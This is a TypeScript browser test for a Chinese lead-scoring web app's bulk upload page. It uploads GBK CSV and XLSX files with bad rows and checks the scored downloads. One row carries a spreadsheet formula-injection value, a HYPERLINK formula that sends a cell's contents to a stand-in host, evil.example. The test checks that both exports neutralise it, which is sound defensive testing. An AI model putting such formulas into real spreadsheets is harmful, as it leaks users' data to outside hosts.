/** The bulk scoring page in a real browser, as a new user would use it: GBK CSV and XLSX with bad rows. */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import ExcelJS from 'exceljs';
import { startServer, type RunningServer } from './server.js';
import { ARTIFACTS, launchChromium, signInPage } from './browser.js';
import { syntheticLeads } from '../../scripts/synthetic.js';
import { demoSeed } from '../helpers/app.js';

let server: RunningServer;
let browser: Browser;
let page: Page;
const problems: string[] = [];
const N = 2000;
const BAD = [5, 777, 1500]; // rows without summary or industry
const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")';

function rows(): string[][] {
  return syntheticLeads(demoSeed(), N, 5).map((l, i) => [
    l.name!,
    BAD.includes(i + 1) ? '' : l.summary!,
    String(l.floorAreaM2 ?? ''),
    i === 1 ? '约一千万?' : String(l.investmentWan ?? ''),
    i === 0 ? HYPERLINK : '',
  ]);
}

beforeAll(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  server = await startServer();
  browser = await launchChromium();
  page = await browser.newPage({ viewport: { width: 1280, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
  page.on('console', (m) => m.type() === 'error' && problems.push(m.text()));
  page.on('pageerror', (e) => problems.push(e.message));
  await signInPage(page, server.url, 'admin', server.adminPassword);
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

async function uploadAndWait(path: string) {
  await page.goto(`${server.url}/upload.html`);
  await page.setInputFiles('#file', path);
  await page.click('#upload-button');
  await page.waitForFunction(() => document.querySelector('#job-text')?.textContent?.startsWith('已完成'), null, { timeout: 120_000 });
  expect(await page.locator('#job-progress').evaluate((p) => (p as HTMLProgressElement).value)).toBe(1);
}

describe('the bulk scoring page', () => {
  it('scores a GBK CSV: progress to 100 %, exactly the bad rows listed, a safe CSV download', async () => {
    const header = '项目名称,项目简介,面积需求(平方米),总投资(万元),备注';
    const csv = [header, ...rows().map((r) => r.map((c) => (/[",\n]/.test(c) ? `"${c.replaceAll('"', '""')}"` : c)).join(','))].join(
      '\r\n',
    );
    const file = join(ARTIFACTS, 'leads-gbk.csv');
    writeFileSync(file, iconv.encode(csv, 'gbk'));
    await uploadAndWait(file);
    expect(await page.locator('#job-text').textContent()).toContain(`${(N - 4).toLocaleString('zh-CN')} 行已评分`);
    const errorRows = await page.locator('#errors-body tr td:first-child').allTextContents();
    expect(errorRows).toEqual(['2', ...BAD.map(String)]);
    await page.screenshot({ path: `${ARTIFACTS}/upload-1-done.png`, fullPage: true });
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#dl-csv')]);
    const saved = join(ARTIFACTS, 'results.csv');
    await download.saveAs(saved);
    const bytes = readFileSync(saved);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text).toContain('推荐园区,得分,备选园区,排除原因,推荐理由');
    expect(text).toContain(`'${HYPERLINK.replaceAll('"', '""')}`);
    expect(problems).toEqual([]);
  });

  it('scores an XLSX the same way and its XLSX download holds no formula, text as text', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('线索');
    ws.addRow(['项目名称', '项目简介', '面积需求(平方米)', '总投资(万元)', '备注']);
    for (const r of rows()) ws.addRow(r.map((c, i) => (i >= 2 && i <= 3 && /^\d+$/.test(c) ? Number(c) : c)));
    const file = join(ARTIFACTS, 'leads.xlsx');
    await wb.xlsx.writeFile(file);
    await uploadAndWait(file);
    expect(await page.locator('#errors-body tr').count()).toBe(4);
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#dl-xlsx')]);
    const saved = join(ARTIFACTS, 'results.xlsx');
    await download.saveAs(saved);
    const back = new ExcelJS.Workbook();
    await back.xlsx.readFile(saved);
    const sheet = back.worksheets[0]!;
    expect(sheet.rowCount).toBe(N - 4 + 1);
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((cell) => void (cell.formula || cell.type === ExcelJS.ValueType.Formula ? formulas++ : 0)));
    expect(formulas).toBe(0);
    // a string cell, never a formula: the text as typed, with no visible apostrophe (the CSV keeps its guard)
    expect(sheet.getRow(2).getCell(5).value).toBe(HYPERLINK);
    expect(sheet.getRow(2).getCell(5).type).toBe(ExcelJS.ValueType.String);
    await page.screenshot({ path: `${ARTIFACTS}/upload-2-xlsx.png`, fullPage: true });
    expect(problems).toEqual([]);
  });
});
